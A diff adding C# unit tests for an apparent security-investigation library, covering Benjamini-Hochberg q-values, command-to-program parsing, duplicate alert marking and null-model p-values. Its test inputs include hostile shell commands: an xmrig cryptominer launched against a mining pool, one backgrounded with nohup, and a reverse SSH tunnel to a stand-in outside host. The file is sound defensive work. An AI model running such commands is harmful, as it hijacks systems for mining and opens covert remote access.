@@ -1,0 +1,81 @@
+using Aurelian.Investigation;
+using Aurelian.Investigation.Cases;
+using Aurelian.Investigation.Causes;
+
+namespace Aurelian.UnitTests.Investigation.Core;
+
+public class CausesTests
+{
+    [Fact]
+    public void Q_values_are_those_of_Benjamini_and_Hochberg()
+    {
+        // Worked by hand: p·m/rank, then the least from the right.
+        double[] q = BenjaminiHochberg.QValues([0.01, 0.04, 0.03, 0.5]);
+        Assert.Equal([0.04, 0.16 / 3, 0.16 / 3, 0.5], q,
+            new Close());
+    }
+
+    [Theory]
+    [InlineData("chmod +x xmrig && ./xmrig --url pool.a.example:443 -k", "bash:xmrig")]
+    [InlineData("nohup ./xmrig -o stratum+tcp://pool >/dev/null 2>&1 &", "bash:xmrig")]
+    [InlineData("python3 solve.py --seed 4", "bash:python3 solve.py")]
+    [InlineData("ssh -N -R 443:localhost:22 ops@a.example", "bash:ssh")]
+    [InlineData("cat src/a.py | head -4", "bash:cat")]
+    [InlineData("", "bash:")]
+    public void A_command_comes_down_to_its_program(string command, string program) =>
+        Assert.Equal(program, CommandWords.ProgramOf("bash", command));
+
+    [Fact]
+    public void Words_are_distinct_and_leave_numbers_out() =>
+        Assert.Equal(["xmrig", "--url", "pool", "example", "-k"],
+            CommandWords.Of("./xmrig --url pool.example:14444 -k xmrig 4b8b64e8db055840"));
+
+    [Fact]
+    public void Repeated_lines_stand_for_one_event()
+    {
+        CaseAlert[] alerts = [Alert(100, 4000), Alert(101, 4000), Alert(101, 4001), Alert(200, 4000)];
+        Assert.Equal([null, 0, null, null], RepeatedAlerts.Mark(alerts).Select(a => a.DuplicateOf));
+    }
+
+    [Fact]
+    public void A_rotation_keeps_siblings_together()
+    {
+        CaseFrame frame = CaseFrame.Of(new InvestigationCase
+        {
+            Alerts = [],
+            Calls =
+            [
+                InvestigatorTests.Call("a", "e1", 100, 110) with { Task = "t" },
+                InvestigatorTests.Call("b", "e2", 130, 150) with { Task = "t" },
+                InvestigatorTests.Call("c", "e3", 5000, 5100) with { Task = "t", Step = 1 },
+            ],
+        });
+        double[] starts = Rotation.Starts(frame, frame.Visit, frame.Visits, 7);
+
+        double apart = (starts[1] - starts[0] + frame.TraceSeconds) % frame.TraceSeconds;
+        Assert.Equal(30, apart, 6);
+        Assert.NotEqual(frame.Start[2] - frame.Start[0], starts[2] - starts[0], 3);
+    }
+
+    [Fact]
+    public void A_null_tail_ranks_what_it_has_and_falls_off_beyond_it()
+    {
+        NullTail tail = new(Enumerable.Range(0, 1000).Select(i => i / 100f));
+        Assert.InRange(tail.PValue(5), 0.49, 0.51);
+        Assert.InRange(tail.PValue(9.995), 1e-4, 0.02);
+        Assert.True(tail.PValue(30) < 1e-6);
+    }
+
+    private static CaseAlert Alert(double time, int port) => new()
+    {
+        Line = 1, Time = time, SourceAddress = "198.51.100.20", SourcePort = port, DestinationAddress = "203.0.113.9",
+        DestinationPort = 443,
+    };
+
+    private sealed class Close : IEqualityComparer<double>
+    {
+        public bool Equals(double x, double y) => Math.Abs(x - y) < 1e-9;
+
+        public int GetHashCode(double obj) => 0;
+    }
+}
